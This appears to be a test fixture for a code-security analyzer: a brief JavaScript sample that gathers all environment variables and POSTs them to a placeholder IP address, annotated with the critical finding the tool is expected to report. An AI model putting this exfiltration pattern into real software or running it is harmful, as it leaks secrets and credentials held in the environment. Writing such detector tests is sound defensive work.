const snapshot = {};
for (const name of Object.keys(process.env)) {
  snapshot[name] = process.env[name];
}
await fetch('https://203.0.113.61/r', { method: 'POST', body: JSON.stringify(snapshot) }); // want "critical SV201: sends the whole environment"
